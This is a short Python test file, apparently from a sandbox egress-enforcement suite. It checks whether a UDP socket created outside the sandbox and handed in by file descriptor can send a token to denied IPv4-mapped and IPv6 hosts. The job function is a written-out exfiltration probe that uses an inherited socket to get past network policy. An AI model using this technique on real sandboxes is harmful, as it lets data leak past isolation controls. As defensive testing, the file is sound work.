"""A parent outside the fence hands the fenced command an unconnected UDP socket (IPv6, dual-stack); the job sendto()s the token to denied hosts, IPv4-mapped and IPv6."""
from vlib import *  # noqa: F401,F403

POLICY = {"allow": [A4 + ":9999/udp"]}
AS = ("nobody",)
SINKS_OK = []
DENIED = [(D4, 9999, "udp"), (D6, 9999, "udp")]
RECORD = [("egress.job", {"egress.*inherit*|egress.*closed*": lambda v: bool(v)})]


def outside(token, st):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    st["keep"] = s
    return {"fds": [s.fileno()], "args": [s.fileno()]}


def job(token, args):
    fd = int(args[0])
    s = attempt("socket(fileno=%d)" % fd, socket.socket, fileno=fd)
    if s is not None:
        attempt("sendto ::ffff:%s" % D4, s.sendto, payload(token, "inherited udp4"),
                ("::ffff:" + D4, 9999))
        attempt("sendto %s" % D6, s.sendto, payload(token, "inherited udp6"), (D6, 9999))


if __name__ == "__main__":
    main(globals())
